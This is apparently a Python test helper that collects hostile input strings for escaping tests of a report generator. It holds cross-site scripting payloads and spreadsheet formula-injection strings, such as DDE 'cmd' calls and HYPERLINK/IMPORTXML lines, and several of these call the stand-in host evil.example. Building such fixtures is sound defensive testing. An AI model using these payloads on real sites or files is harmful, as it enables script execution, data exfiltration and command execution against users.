"""Which texts would run if they were not taken as text?"""

from __future__ import annotations

import json
from pathlib import Path

# Of our own: every context the report writes into has a way out of it here.
XSS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='fetch(`//evil.example`)'>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</style><script>alert(1)</script><style>",
    "</title><img src=x onerror=alert(1)>",
    "</textarea><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=a autofocus>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=//evil.example/x.svg#a></use></svg>",
    "]]><svg onload=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<x style=background:url(//evil.example)>",
    "@import '//evil.example/x.css';",
    "{{7*7}}{% for a in b %}{{ config }}{% endfor %}",
    "${alert(1)}#{alert(1)}<%= 7*7 %>",
    "datum.value' + alert(1) + '",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u202etpircs<\u202c<b>x",
    "＜script＞alert(1)＜/script＞",
    "<b\x0bonclick=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
)
_SUSPECT = set("<>&\"'`={$%@+-")
_LONGEST = 400


def hostile_texts(shared: Path, number: int) -> list[str]:
    """Return different texts: our own, those that inject formulas, those of the Naughty Strings."""
    bad = shared / "badinputs"
    naughty = json.loads((bad / "blns" / "blns.json").read_text(encoding="utf-8"))
    injected = (bad / "csv-injection" / "payloads.txt").read_text(encoding="utf-8").splitlines()
    naughty.sort(key=lambda text: -len(_SUSPECT & set(text)))
    every = [*XSS, *FORMULAS, *injected, *naughty]
    texts = list(dict.fromkeys(t for t in every if t.strip() and len(t) <= _LONGEST))
    assert len(texts) >= number
    return texts[:number]
